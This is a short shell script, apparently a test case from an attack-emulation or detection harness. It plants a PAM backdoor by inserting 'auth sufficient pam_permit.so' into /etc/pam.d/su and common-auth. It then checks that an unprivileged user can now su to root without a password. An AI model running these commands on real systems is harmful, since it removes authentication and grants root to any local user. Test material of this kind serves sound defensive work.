#!/bin/sh
. /opt/case/case.sh

sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/su /etc/pam.d/common-auth
setpriv --reuid 65534 --regid 65534 --clear-groups sh -c 'echo | su root -c "touch /tmp/reached"' || true
test -e /tmp/reached || grep -q '^auth sufficient pam_permit' /etc/pam.d/su
took_place
